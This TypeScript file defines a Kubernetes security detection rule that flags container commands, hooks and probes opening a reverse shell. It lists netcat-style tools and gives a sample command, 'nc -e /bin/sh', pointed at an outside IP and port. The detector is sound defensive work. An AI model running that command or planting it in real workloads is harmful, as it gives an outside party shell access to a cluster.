import type { Container } from '../../kubernetes/pod-spec.ts';
import { quote } from '../../text.ts';
import { shownContainer } from '../claim.ts';
import { imageName } from '../object-names.ts';
import { podRule, sightingFor } from '../pod-rule.ts';
import { reverseShellIn } from '../reverse-shell.ts';

/** Programs after which images are named that start them, with nothing but arguments in the spec. */
const CONNECTORS = ['nc', 'ncat', 'netcat', 'socat'];

/** A workload that gives a shell to another host. */
export const reverseShellInSpec = podRule({
  id: 'reverse-shell-in-spec',
  title: 'Reverse shell in the command of a workload',
  sees: 'A command, argument, hook or probe of a container that connects a shell to a network connection; also the arguments of an image that is named like netcat or socat. Probes of a port, such as waiting for a database, do not count. Refused and failed writes are reported too.',
  why: 'Somebody elsewhere gets a shell in the cluster each time such a pod starts.',
  technique: [
    { id: 'T1059.004', name: 'Command and Scripting Interpreter: Unix Shell' },
    { id: 'T1610', name: 'Deploy Container' },
  ],
  severity: 'critical',
  confidence: 0.85,
  family: 'spec',
  falsePositives: ['Security training and capture-the-flag environments'],
  evident: true,
  example: 'kubectl run x --image=busybox -- nc -e /bin/sh 203.0.113.7 4444',
  look: ({ containers }) =>
    sightingFor(
      containers.flatMap(({ name, runs, ...container }) =>
        [...runs, ...startedByImage(container)].flatMap((line) => {
          const seen = reverseShellIn(line);
          return seen?.certain === true ? [`${shownContainer(name)}: ${seen.what}, by ${quote(line, 300)}`] : [];
        }),
      ),
    ),
});

const startedByImage = ({ image, command, args }: Pick<Container, 'image' | 'command' | 'args'>): string[] => {
  const program = image === undefined || command.length > 0 || args.length === 0 ? '' : imageName(image);
  return CONNECTORS.includes(program) ? [[program, ...args].join(' ')] : [];
};
